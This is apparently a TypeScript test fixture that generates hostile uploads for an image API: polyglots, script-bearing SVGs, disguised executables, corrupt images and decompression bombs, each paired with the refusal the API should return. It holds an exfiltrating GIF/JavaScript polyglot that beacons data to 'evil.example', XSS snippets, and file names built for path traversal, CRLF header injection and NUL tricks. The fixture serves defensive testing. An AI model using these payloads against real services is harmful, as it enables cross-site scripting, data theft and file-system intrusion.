/**
 * The hostile upload corpus, made in code at test time (no committed binaries): polyglots,
 * scripts and documents dressed as photos, damaged images of every accepted format,
 * decompression bombs, and file names meant to escape a folder or break a header. Each file
 * carries what the API must answer for it.
 */
import { crc32 } from 'node:zlib';
import sharp from 'sharp';
import { seededRandom } from '../../scripts/lib/random.js';
import {
  ELF_EXECUTABLE,
  HTML_PAGE,
  MARKERS,
  PDF_DOCUMENT,
  SVG_WITH_SCRIPT,
  corruptPng,
  corruptWebp,
  hugePng,
  jpegClaiming,
  photographicJpeg,
  photographicPixels,
  polyglotHtmlJpeg,
  polyglotZipJpeg,
  truncatedJpeg,
} from './images.js';

export type RefusalCode = 'EMPTY_FILE' | 'UNSUPPORTED_FORMAT' | 'CORRUPT_IMAGE' | 'TOO_MANY_PIXELS';

export interface HostileFile {
  /** What the file is, for messages. */
  label: string;
  /** The file name sent in the multipart header (raw: it may hold anything). */
  name: string;
  bytes: Buffer;
  /**
   * Refused with this code, or accepted only as a clean re-encoded derivative that holds none
   * of the `forbidden` byte strings (a valid photo with something appended is still a photo).
   */
  outcome: { refused: RefusalCode } | { derivative: { forbidden: string[] } };
  /** The name the API may echo back in its answer, when it differs from `name`. */
  echoed?: string;
}

export const statusOf = (code: RefusalCode) => (code === 'UNSUPPORTED_FORMAT' ? 415 : 422);

const noise = (length: number, seed: number) => {
  const rnd = seededRandom(seed);
  return Buffer.from(Array.from({ length }, () => Math.floor(rnd() * 256)));
};

// ---------------------------------------------------------------------------------------------
// Containers

function u32(n: number): Buffer {
  const b = Buffer.alloc(4);
  b.writeUInt32BE(n);
  return b;
}
function u16(n: number): Buffer {
  const b = Buffer.alloc(2);
  b.writeUInt16BE(n);
  return b;
}
const box = (type: string, ...parts: Buffer[]) => {
  const body = Buffer.concat(parts);
  return Buffer.concat([u32(body.length + 8), Buffer.from(type, 'latin1'), body]);
};
const fullBox = (type: string, version: number, ...parts: Buffer[]) => box(type, Buffer.from([version, 0, 0, 0]), ...parts);

/**
 * A HEIC as an iPhone writes it (ftyp heic, one hvc1 image item with hvcC and ispe, its data
 * in mdat) claiming `width` × `height`, whose HEVC data is `data`. No HEVC encoder is needed:
 * the container is what the server reads first, and the data is noise.
 */
export function heicContainer(width: number, height: number, data: Buffer): Buffer {
  const ftyp = box('ftyp', Buffer.from('heic', 'latin1'), u32(0), Buffer.from('mif1heic', 'latin1'));
  const hdlr = fullBox('hdlr', 0, u32(0), Buffer.from('pict', 'latin1'), Buffer.alloc(12), Buffer.from([0]));
  const pitm = fullBox('pitm', 0, u16(1));
  const iinf = fullBox('iinf', 0, u16(1), fullBox('infe', 2, u16(1), u16(0), Buffer.from('hvc1', 'latin1'), Buffer.from([0])));
  // Main profile, level 3.1, no parameter-set arrays.
  const hvcC = box('hvcC', Buffer.from([1, 1, 0x60, 0, 0, 0, 0x90, 0, 0, 0, 0, 0, 0x5d, 0xf0, 0, 0xfc, 0xfd, 0xf8, 0xf8, 0, 0, 0x0f, 0]));
  const ispe = fullBox('ispe', 0, u32(width), u32(height));
  const iprp = box('iprp', box('ipco', hvcC, ispe), fullBox('ipma', 0, u32(1), u16(1), Buffer.from([2, 0x81, 0x02])));
  const meta = (dataOffset: number) =>
    fullBox('meta', 0, hdlr, pitm, iinf, fullBox('iloc', 0, Buffer.from([0x44, 0x00]), u16(1), u16(1), u16(0), u16(1), u32(dataOffset), u32(data.length)), iprp);
  const offset = ftyp.length + meta(0).length + 8;
  return Buffer.concat([ftyp, meta(offset), box('mdat', data)]);
}

/** An MP4 video's first box: ISO-BMFF like HEIC, but not an image brand. */
function mp4Head(): Buffer {
  return Buffer.concat([box('ftyp', Buffer.from('isom', 'latin1'), u32(512), Buffer.from('isomiso2avc1mp41', 'latin1')), box('mdat', noise(512, 3))]);
}

/** A lossless WebP whose header (VP8L) is patched to claim `width` × `height` (at most 16383 each). */
async function webpClaiming(width: number, height: number): Promise<Buffer> {
  const webp = Buffer.from(await sharp(photographicPixels(16, 16, 9).data, { raw: { width: 16, height: 16, channels: 3 } }).webp({ lossless: true }).toBuffer());
  const at = webp.indexOf('VP8L', 12, 'latin1');
  if (at < 0 || webp[at + 8] !== 0x2f) throw new Error('no VP8L header');
  const bits = webp.readUInt32LE(at + 9);
  // 14 bits width - 1, 14 bits height - 1, then alpha and version, kept as they were.
  webp.writeUInt32LE(((bits & ~0x0fffffff) | ((width - 1) & 0x3fff) | (((height - 1) & 0x3fff) << 14)) >>> 0, at + 9);
  return webp;
}

/** A JPEG with its quantization tables (DQT) taken out: no decoder can make pixels of it. */
async function jpegWithoutQuantTables(): Promise<Buffer> {
  const jpeg = await photographicJpeg(640, 480, 41);
  const parts: Buffer[] = [jpeg.subarray(0, 2)];
  let i = 2;
  while (i < jpeg.length) {
    const marker = jpeg[i + 1]!;
    if (marker === 0xda) {
      parts.push(jpeg.subarray(i));
      break;
    }
    const length = jpeg.readUInt16BE(i + 2);
    if (marker !== 0xdb) parts.push(jpeg.subarray(i, i + 2 + length));
    i += 2 + length;
  }
  return Buffer.concat(parts);
}

/** A PNG that is valid up to its end, then an HTML page after IEND. */
async function pngWithHtmlAfter(): Promise<Buffer> {
  const png = await sharp(photographicPixels(300, 200, 43).data, { raw: { width: 300, height: 200, channels: 3 } }).png().toBuffer();
  return Buffer.concat([png, Buffer.from(`<html><body><script>alert("${MARKERS.html}-PNG")</script></body></html>`)]);
}

/** A PNG with an HTML page in a tEXt chunk (inside the file, not after it). */
async function pngWithHtmlInside(): Promise<Buffer> {
  const png = await sharp(photographicPixels(300, 200, 47).data, { raw: { width: 300, height: 200, channels: 3 } }).png().toBuffer();
  const text = Buffer.from(`Comment\0<script>alert("${MARKERS.html}-TEXT")</script>`, 'latin1');
  const chunk = Buffer.concat([u32(text.length), Buffer.from('tEXt', 'latin1'), text, u32(crc32(Buffer.concat([Buffer.from('tEXt', 'latin1'), text])))]);
  const afterIhdr = 8 + 8 + png.readUInt32BE(8) + 4;
  return Buffer.concat([png.subarray(0, afterIhdr), chunk, png.subarray(afterIhdr)]);
}

/** The GIF/JavaScript polyglot: a GIF header that is also the start of a script comment. */
const GIF_JS = Buffer.concat([
  Buffer.from('GIF89a/*', 'latin1'),
  Buffer.from([0x01, 0x00, 0x80, 0x00, 0x00, 0xff, 0xff, 0xff, 0x00, 0x00, 0x00, 0x2c, 0, 0, 0, 0, 1, 0, 1, 0, 0, 0x02, 0x02, 0x44, 0x01, 0x00, 0x3b]),
  Buffer.from('*/=1;fetch("/api/me").then(r=>r.text()).then(t=>navigator.sendBeacon("https://evil.example",t));//', 'latin1'),
]);

const SVG_ONLOAD = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"><rect width="10" height="10"/></svg>');
const SVG_BOM = Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from('\n\n  <svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>')]);
const JPEG_MAGIC_HTML = Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), HTML_PAGE]);
const WINDOWS_EXE = Buffer.concat([Buffer.from('MZ', 'latin1'), Buffer.alloc(58), Buffer.from([0x80, 0, 0, 0]), Buffer.from('PE\0\0', 'latin1'), Buffer.alloc(200, 0x90)]);
const ZIP_ARCHIVE = Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04]), noise(200, 5)]);

/** What no derivative of a polyglot may contain. */
const HTML_TRACES = ['<script', '<html', MARKERS.html];
const ZIP_TRACES = [MARKERS.zip, 'PK\u0003\u0004', 'PK\u0001\u0002', 'PK\u0005\u0006'];

/**
 * Every hostile file, one per case. Built once per test file (a few hundred milliseconds).
 * Names that try to escape a folder or carry control characters travel with an HTML page as
 * content, so that they are refused and their name is echoed (cleaned) in the refusal.
 */
export async function hostileCorpus(): Promise<HostileFile[]> {
  const png = await sharp(photographicPixels(400, 300, 51).data, { raw: { width: 400, height: 300, channels: 3 } }).png().toBuffer();
  const webp = await sharp(photographicPixels(400, 300, 53).data, { raw: { width: 400, height: 300, channels: 3 } }).webp({ quality: 80 }).toBuffer();
  const heic = heicContainer(640, 480, noise(4096, 7));
  const jpeg = await photographicJpeg(640, 480, 55);
  const refused = (label: string, name: string, bytes: Buffer, code: RefusalCode, echoed?: string): HostileFile => ({
    label,
    name,
    bytes,
    outcome: { refused: code },
    ...(echoed !== undefined && { echoed }),
  });
  return [
    // Polyglots. A valid photo with a page or an archive appended is still a photo: it may be
    // accepted, but only as a freshly encoded derivative in which nothing of the rest survives.
    { label: 'JPEG + HTML polyglot', name: 'polyglot-html.jpg', bytes: await polyglotHtmlJpeg(), outcome: { derivative: { forbidden: HTML_TRACES } } },
    { label: 'JPEG + ZIP polyglot', name: 'polyglot-zip.jpg', bytes: await polyglotZipJpeg(), outcome: { derivative: { forbidden: ZIP_TRACES } } },
    { label: 'PNG + HTML after IEND', name: 'polyglot-html.png', bytes: await pngWithHtmlAfter(), outcome: { derivative: { forbidden: HTML_TRACES } } },
    { label: 'PNG with HTML in a text chunk', name: 'text-chunk.png', bytes: await pngWithHtmlInside(), outcome: { derivative: { forbidden: HTML_TRACES } } },
    refused('GIF + JavaScript polyglot', 'polyglot.gif', GIF_JS, 'UNSUPPORTED_FORMAT'),
    refused('GIF + JavaScript polyglot named .jpg', 'polyglot-gif.jpg', GIF_JS, 'UNSUPPORTED_FORMAT'),
    refused('HTML behind a JPEG signature', 'magic-html.jpg', JPEG_MAGIC_HTML, 'CORRUPT_IMAGE'),
    // Scripts and documents dressed as photos.
    refused('SVG with a script', 'script.svg', SVG_WITH_SCRIPT, 'UNSUPPORTED_FORMAT'),
    refused('SVG with onload, named .jpg', 'onload.jpg', SVG_ONLOAD, 'UNSUPPORTED_FORMAT'),
    refused('SVG after a byte-order mark and blank lines', 'bom.svg', SVG_BOM, 'UNSUPPORTED_FORMAT'),
    refused('HTML named .jpg', 'page.jpg', HTML_PAGE, 'UNSUPPORTED_FORMAT'),
    refused('PDF named .jpg', 'document.jpg', PDF_DOCUMENT, 'UNSUPPORTED_FORMAT'),
    refused('ELF executable named .jpg', 'program.jpg', ELF_EXECUTABLE, 'UNSUPPORTED_FORMAT'),
    refused('Windows executable named .jpg', 'setup.jpg', WINDOWS_EXE, 'UNSUPPORTED_FORMAT'),
    refused('ZIP archive named .jpg', 'archive.jpg', ZIP_ARCHIVE, 'UNSUPPORTED_FORMAT'),
    refused('MP4 video named .heic', 'video.heic', mp4Head(), 'UNSUPPORTED_FORMAT'),
    // Names.
    refused('path traversal in the name', '../../etc/passwd.jpg', HTML_PAGE, 'UNSUPPORTED_FORMAT', 'passwd.jpg'),
    refused('Windows path traversal in the name', '..\\..\\Windows\\win.ini.jpg', HTML_PAGE, 'UNSUPPORTED_FORMAT', 'win.ini.jpg'),
    refused('CR LF in the name (a header injection)', 'photo\r\nX-Injected: yes.jpg', HTML_PAGE, 'UNSUPPORTED_FORMAT', 'photoX-Injected: yes.jpg'),
    refused('NUL in the name', 'photo\u0000.php.jpg', HTML_PAGE, 'UNSUPPORTED_FORMAT', 'photo.php.jpg'),
    refused('other control characters in the name', '\u001b[31mred\u0007\u007f.jpg', HTML_PAGE, 'UNSUPPORTED_FORMAT', '[31mred.jpg'),
    refused('a right-to-left override in the name', 'photo\u202egpj.exe', HTML_PAGE, 'UNSUPPORTED_FORMAT', 'photogpj.exe'),
    refused('a 5000-character name', `${'a'.repeat(4996)}.jpg`, HTML_PAGE, 'UNSUPPORTED_FORMAT', 'a'.repeat(200)),
    // Empty, truncated and corrupt images of every accepted format.
    refused('zero bytes', 'empty.jpg', Buffer.alloc(0), 'EMPTY_FILE'),
    refused('truncated JPEG', 'truncated.jpg', await truncatedJpeg(1800, 1200, 0.5), 'CORRUPT_IMAGE'),
    refused('JPEG cut after its headers', 'headers-only.jpg', jpeg.subarray(0, jpeg.indexOf(Buffer.from([0xff, 0xda])) + 14), 'CORRUPT_IMAGE'),
    refused('JPEG without quantization tables', 'no-tables.jpg', await jpegWithoutQuantTables(), 'CORRUPT_IMAGE'),
    refused('truncated PNG', 'truncated.png', png.subarray(0, Math.floor(png.length / 2)), 'CORRUPT_IMAGE'),
    refused('PNG with noise for image data', 'corrupt.png', corruptPng(), 'CORRUPT_IMAGE'),
    refused('truncated WebP', 'truncated.webp', webp.subarray(0, Math.floor(webp.length / 2)), 'CORRUPT_IMAGE'),
    refused('WebP with noise for image data', 'corrupt.webp', corruptWebp(), 'CORRUPT_IMAGE'),
    refused('truncated HEIC', 'truncated.heic', heic.subarray(0, 150), 'CORRUPT_IMAGE'),
    refused('HEIC with noise for image data', 'corrupt.heic', heic, 'CORRUPT_IMAGE'),
    // Decompression bombs: refused from the header, before a pixel is decoded. Each but the
    // first claims its size over image data that is too short or noise, which a decoder would
    // refuse as CORRUPT_IMAGE (as with the PNG with noise above): TOO_MANY_PIXELS shows that
    // none was decoded.
    refused('100-megapixel PNG of a few kilobytes', 'bomb.png', hugePng(), 'TOO_MANY_PIXELS'),
    refused('PNG claiming 10,000 × 10,000 over noise', 'bomb-noise.png', corruptPng(10_000, 10_000), 'TOO_MANY_PIXELS'),
    refused('JPEG claiming 65,000 × 65,000', 'bomb.jpg', await jpegClaiming(65_000, 65_000), 'TOO_MANY_PIXELS'),
    refused('WebP claiming 10,000 × 10,000', 'bomb.webp', await webpClaiming(10_000, 10_000), 'TOO_MANY_PIXELS'),
    refused('HEIC claiming 65,000 × 65,000', 'bomb.heic', heicContainer(65_000, 65_000, noise(4096, 11)), 'TOO_MANY_PIXELS'),
  ];
}

// ---------------------------------------------------------------------------------------------
// Multipart by hand: file names no form library would send.

/**
 * A multipart/form-data body with each file in the field "photos". A name that a quoted
 * header value cannot carry (CR, LF, NUL, quotes, backslashes, non-ASCII) goes percent-encoded in
 * `filename*` (RFC 7578 / 5987), as a hand-made client may send it.
 */
export function multipartBody(files: { name: string; bytes: Buffer }[], boundary = `----samtykke${Date.now().toString(16)}`): { body: Buffer; contentType: string } {
  const parts: Buffer[] = [];
  for (const f of files) {
    const plain = /^[\x20-\x7e]*$/.test(f.name) && !/["\\]/.test(f.name);
    const disposition = plain
      ? `form-data; name="photos"; filename="${f.name}"`
      : `form-data; name="photos"; filename="upload.bin"; filename*=UTF-8''${encodeURIComponent(f.name)}`;
    parts.push(Buffer.from(`--${boundary}\r\nContent-Disposition: ${disposition}\r\nContent-Type: image/jpeg\r\n\r\n`, 'utf8'), f.bytes, Buffer.from('\r\n'));
  }
  parts.push(Buffer.from(`--${boundary}--\r\n`));
  return { body: Buffer.concat(parts), contentType: `multipart/form-data; boundary=${boundary}` };
}
